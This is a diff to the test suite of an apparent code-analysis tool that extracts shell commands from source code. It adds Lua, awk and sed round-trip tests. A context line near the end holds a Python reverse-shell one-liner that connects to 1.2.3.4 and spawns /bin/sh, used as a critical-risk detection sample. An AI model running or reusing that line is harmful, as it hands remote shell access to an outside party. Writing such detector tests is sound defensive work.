@@ -1292,6 +1292,37 @@ def test_perl_ruby_php_single_quoted_commands_round_trip(cmd):
     assert analyse_code("php", f"system({quoted});").commands == (cmd,)
 
 
+def _lua_quoted(text: str) -> str:
+    """A Lua string literal: decimal escapes below 256, \\u{...} above."""
+    out = []
+    for ch in text:
+        if ch.isascii() and ch.isprintable() and ch not in '"\\':
+            out.append(ch)
+        elif ord(ch) < 256:
+            out.append(f"\\{ord(ch):03d}")  # three digits: Lua reads up to three
+        else:
+            out.append(f"\\u{{{ord(ch):x}}}")
+    return '"' + "".join(out) + '"'
+
+
+def _lua_long(text: str) -> str:
+    """A Lua long string of the first level whose closer does not occur before the end."""
+    level = 0
+    while (text + "]" + "=" * level + "]").find("]" + "=" * level + "]") != len(text):
+        level += 1
+    return "[" + "=" * level + "[" + text + "]" + "=" * level + "]"
+
+
+@settings(max_examples=200, deadline=None)
+@given(cmd=COMMAND_TEXT)
+def test_lua_literal_commands_round_trip(cmd):
+    assert analyse_code("lua", f"os.execute({_lua_quoted(cmd)})").commands == (cmd,)
+    assert analyse_code("lua", f"io.popen {_lua_long(cmd)}").commands == (cmd,)
+    awk_quoted = '"' + cmd.replace("\\", "\\\\").replace('"', '\\"') + '"'
+    assert analyse_code("awk", f"BEGIN {{ system({awk_quoted}) }}").commands == (cmd,)
+    assert analyse_code("sed", f"1e {cmd}").commands == (cmd.strip(),)
+
+
 @pytest.mark.parametrize("language, source, risk", [
     ("python", 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",9));'
                'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])', Risk.CRITICAL),
